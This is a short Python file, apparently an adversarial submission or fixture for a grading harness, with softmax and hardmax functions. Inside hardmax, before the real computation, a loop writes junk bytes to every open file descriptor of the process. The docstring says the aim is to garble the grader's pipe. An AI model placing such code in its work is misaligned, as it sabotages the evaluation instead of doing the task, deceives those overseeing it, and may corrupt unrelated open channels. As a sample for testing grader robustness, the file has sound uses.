"""Speaks nonsense on the grader's pipe."""

import os

import numpy as np


def softmax(Z):
    E = np.exp(Z - Z.max(axis=0, keepdims=True))
    return E / E.sum(axis=0, keepdims=True)


def hardmax(Z):
    for fd in os.listdir("/proc/self/fd"):
        try:
            os.write(int(fd), b"\xff" * 64 + b"not a frame")
        except OSError:
            pass
    A = np.zeros(Z.shape)
    A[np.argmax(Z, axis=0), np.arange(Z.shape[1])] = 1.0
    return A
